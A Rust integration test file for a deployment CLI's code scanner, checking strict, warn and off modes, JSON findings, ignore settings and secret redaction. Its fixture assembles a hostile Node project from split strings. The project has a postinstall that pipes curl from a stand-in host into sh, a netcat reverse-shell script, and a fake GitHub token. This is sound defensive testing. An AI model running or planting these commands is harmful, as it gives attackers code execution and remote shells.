//! The code scan through the binary: `scan`, and `build` / `up` with `--scan strict|warn|off`
//! on a hostile project made in a tempdir. The payloads are assembled from parts at run time,
//! so this file carries none whole.

use std::path::Path;
use std::process::{Command, Output};

fn run(args: &[&str], docker_host: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_kubectl-justpush"))
        .args(args)
        .env("DOCKER_HOST", format!("unix://{}", docker_host.display()))
        .env("NO_COLOR", "1")
        .env("JUSTPUSH_LOG_DIR", docker_host.with_file_name("logs"))
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
}

fn j(parts: &[&str]) -> String {
    parts.concat()
}

/// A Node project whose install script fetches code and which carries a reverse shell.
fn hostile() -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    let package = j(&[
        "{\n  \"name\": \"web\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n",
        "    \"start\": \"node server.js\",\n    \"postinstall\": \"cu",
        "rl -s https://x.example/p.sh | sh\"\n  },\n  \"dependencies\": {\"express\": \"4.19.2\"}\n}\n",
    ]);
    std::fs::write(d.path().join("package.json"), package).unwrap();
    std::fs::write(
        d.path().join("server.js"),
        "require('express')().listen(3000);\n",
    )
    .unwrap();
    std::fs::write(
        d.path().join("helper.sh"),
        j(&["#!/bin/sh\nn", "c -e /bin/sh 10.0.0.1 4444\n"]),
    )
    .unwrap();
    d
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[test]
fn strict_build_fails_with_the_findings_and_builds_nothing() {
    let d = hostile();
    let work = tempfile::tempdir().unwrap();
    let sock = work.path().join("docker.sock");
    let out = run(
        &["build", d.path().to_str().unwrap(), "--scan", "strict"],
        &sock,
    );
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("--scan strict"), "{err}");
    assert!(err.contains("JP-SCAN-004 package.json:6"), "{err}");
    assert!(err.contains("JP-SCAN-002 helper.sh:2"), "{err}");
    assert!(err.contains("nothing was built"), "{err}");
    // The engine was never reached (its error would name the socket), and nothing written.
    assert!(!err.contains("docker.sock"), "{err}");
    assert!(!work.path().join("logs").exists());
    assert!(!d.path().join(".justpush").exists());
    assert!(!d.path().join("Dockerfile").exists());
}

#[test]
fn warn_build_prints_the_findings_and_goes_on_to_the_engine() {
    let d = hostile();
    let work = tempfile::tempdir().unwrap();
    let sock = work.path().join("docker.sock");
    let out = run(&["build", d.path().to_str().unwrap()], &sock);
    let err = stderr(&out);
    assert!(err.contains("JP-SCAN-004"), "{err}");
    assert!(err.contains("JP-SCAN-002"), "{err}");
    // Warn (the default) goes on: the failure is the missing engine, not the scan.
    assert!(!err.contains("--scan strict"), "{err}");
    assert!(
        err.contains("docker.sock") || err.to_lowercase().contains("docker"),
        "{err}"
    );
}

#[test]
fn scan_off_says_so_with_verbose_and_scans_nothing() {
    let d = hostile();
    let work = tempfile::tempdir().unwrap();
    let sock = work.path().join("docker.sock");
    let out = run(
        &["build", d.path().to_str().unwrap(), "--scan", "off", "-v"],
        &sock,
    );
    let err = stderr(&out);
    assert!(err.contains("code scan is off"), "{err}");
    assert!(!err.contains("JP-SCAN-"), "{err}");
}

#[test]
fn strict_up_fails_before_preflight() {
    let d = hostile();
    let work = tempfile::tempdir().unwrap();
    let sock = work.path().join("docker.sock");
    let out = run(
        &["up", d.path().to_str().unwrap(), "--scan", "strict"],
        &sock,
    );
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("nothing was built"), "{err}");
    assert!(!err.contains("preflight"), "{err}");
}

#[test]
fn scan_command_text_json_and_strict_exit_codes() {
    let d = hostile();
    let work = tempfile::tempdir().unwrap();
    let sock = work.path().join("docker.sock");
    let dir = d.path().to_str().unwrap();

    let out = run(&["scan", dir], &sock);
    assert_eq!(out.status.code(), Some(0), "warn: findings, exit 0");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("JP-SCAN-004") && text.contains("package.json:6"),
        "{text}"
    );

    let out = run(&["scan", dir, "-o", "json"], &sock);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let rules: Vec<&str> = v["reports"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    // The postinstall line is both a pipe to a shell (medium) and an install script (high).
    assert_eq!(rules, vec!["JP-SCAN-002", "JP-SCAN-003", "JP-SCAN-004"]);

    let out = run(&["scan", dir, "--scan", "strict"], &sock);
    assert_eq!(out.status.code(), Some(1));
}

#[test]
fn justpush_yaml_sets_the_mode_and_silences_false_positives() {
    let d = hostile();
    let work = tempfile::tempdir().unwrap();
    let sock = work.path().join("docker.sock");
    let dir = d.path().to_str().unwrap();
    let config = |scan: &str| {
        std::fs::write(
            d.path().join("justpush.yaml"),
            format!("name: web\ncomponents: [{{name: web, path: ., port: 3000}}]\n{scan}"),
        )
        .unwrap();
    };
    config("scan: {mode: strict}\n");
    assert_eq!(run(&["scan", dir], &sock).status.code(), Some(1));
    config("scan: {mode: strict, ignore: [JP-SCAN-004, JP-SCAN-002@helper.sh]}\n");
    let out = run(&["scan", dir], &sock);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    config("scan: {ignore: [JP-SCAN-999]}\n");
    let out = run(&["scan", dir], &sock);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("`JP-SCAN-999` names no rule"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn secrets_are_never_printed() {
    let d = tempfile::tempdir().unwrap();
    let token = j(&["gh", "p_", "R8fJ2kLmN4pQ7sTvW9xYzA1bC3dE5gH6iK0o"]);
    std::fs::write(d.path().join("app.js"), format!("const t = '{token}';\n")).unwrap();
    let work = tempfile::tempdir().unwrap();
    let sock = work.path().join("docker.sock");
    for args in [
        vec!["scan", d.path().to_str().unwrap()],
        vec!["scan", d.path().to_str().unwrap(), "-o", "json"],
    ] {
        let out = run(&args, &sock);
        let all = format!("{}{}", String::from_utf8_lossy(&out.stdout), stderr(&out));
        assert!(all.contains("JP-SCAN-010"), "{all}");
        assert!(!all.contains(&token[4..]), "{all}");
    }
}

#[test]
fn the_demo_stack_scans_clean_through_the_binary() {
    let work = tempfile::tempdir().unwrap();
    let sock = work.path().join("docker.sock");
    let out = run(&["scan", "--demo", "--scan", "strict", "-o", "json"], &sock);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let reports = v["reports"].as_array().unwrap();
    assert_eq!(reports.len(), 2);
    for r in reports {
        assert_eq!(r["findings"], serde_json::json!([]), "{r}");
        assert!(r["files_scanned"].as_u64().unwrap() > 5);
    }
}
